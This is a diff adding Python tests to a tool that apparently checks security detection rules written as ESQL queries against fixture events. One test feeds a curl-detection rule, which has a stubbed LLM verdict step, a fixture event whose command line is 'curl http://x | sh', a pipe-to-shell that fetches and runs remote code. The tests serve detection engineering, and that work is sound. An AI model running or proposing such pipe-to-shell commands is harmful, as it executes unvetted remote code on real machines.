@@ -130,3 +130,46 @@ def test_a_broken_non_aggregating_case_names_the_where_and_the_value(rule_repo):
     assert "dropped by WHERE (line 2 of the query): " in result.explanation
     seen = 'process.name == "certutil.exe" is false (process.name = "certutil")'
     assert seen in result.explanation
+
+
+def test_fixtures_generate_drafts_a_burst_for_an_aggregating_rule(rule_repo):
+    from ruleops.fixtures.generate import draft_fixture
+    from ruleops.loading import load_rule
+
+    path = rule_repo.rule("okta/rule.toml", AGGREGATING, type="esql", language="esql")
+    draft = draft_fixture(load_rule(path, "rules/okta/rule.toml").rule)
+    assert draft.ok
+    assert [c.expect for c in draft.cases][:2] == ["match", "no match"]
+    assert len(draft.cases[0].events) == 3  # three distinct users reach Esql.users >= 3
+
+
+def test_fixtures_generate_drafts_match_and_near_miss_for_an_event_rule(rule_repo):
+    from ruleops.fixtures.generate import draft_fixture
+    from ruleops.loading import load_rule
+
+    path = rule_repo.rule("w/rule.toml", NON_AGGREGATING, type="esql", language="esql")
+    draft = draft_fixture(load_rule(path, "rules/w/rule.toml").rule)
+    assert draft.ok and {"match", "no match"} <= {c.expect for c in draft.cases}
+
+
+def test_a_completion_answer_stands_in_for_the_llm(rule_repo):
+    query = """
+    from logs-endpoint* metadata _id, _index, _version
+    | where process.name == "curl"
+    | eval prompt = concat("classify: ", process.command_line)
+    | completion verdict = prompt with { "inference_id": "x" }
+    | where verdict == "malicious"
+    | keep _id, _index, _version, verdict
+    """
+    body = case(
+        "llm says malicious",
+        "match",
+        process("curl", "curl http://x | sh"),
+        extra='completion = "malicious"\n',
+    )
+    body += case("no answer given", "match", process("curl", "curl http://x"))
+    rule_repo.rule("w/rule.toml", query, type="esql", language="esql")
+    rule_repo.fixture("w/rule.toml", HEADER + body)
+    passed, unanswered = run_paths([rule_repo.root / "rules"], rule_repo.config()).results
+    assert passed.outcome == "pass"
+    assert "does not evaluate COMPLETION" in unanswered.explanation
